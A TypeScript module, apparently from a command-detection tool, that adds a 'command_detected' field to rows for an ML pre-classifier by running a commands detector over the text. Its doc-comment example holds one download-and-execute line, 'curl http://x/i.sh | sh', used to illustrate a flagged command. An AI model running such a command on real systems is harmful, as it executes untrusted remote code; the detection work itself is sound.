import { selectDetectors } from '../../detect/detectors.js';
import { scan } from '../../detect/scanner.js';
import type { RowFields } from '../../ml/classifier.js';
import { PRECLASSIFIER } from '../../ml/preclassifier.js';


let commandsOnly: ReturnType<typeof selectDetectors> | undefined;

/**
 * Fields a model's input view derives from the text itself, computed the same way for training
 * rows, evaluation rows and records to classify. The pre-classifier's view adds
 * `command_detected`: whether Warden's commands detector flags the text — at inference the
 * model only sees windows around command findings, where it is "yes" by construction.
 *
 * @example
 * derivedFields('preclassifier-window', 'curl http://x/i.sh | sh', {}); // { command_detected: 'yes' }
 */
export function derivedFields(view: string, text: string, fields: RowFields): RowFields {
  if (view !== 'preclassifier-window' || fields[PRECLASSIFIER.detectedField] !== undefined) return fields;
  // Selected on first use, not at import: every CLI start imports this module.
  commandsOnly ??= selectDetectors({ names: ['commands'] });
  const detected = scan(text, { detectors: commandsOnly, timeBudgetMs: 500 }).findings.length > 0;
  return { ...fields, [PRECLASSIFIER.detectedField]: detected ? 'yes' : 'no' };
}

/** Rows with their view's derived fields filled in. */
export function withDerivedFields<T extends { text: string; fields?: RowFields }>(rows: readonly T[], view: string): T[] {
  return rows.map((r) => ({ ...r, fields: derivedFields(view, r.text, r.fields ?? {}) }));
}
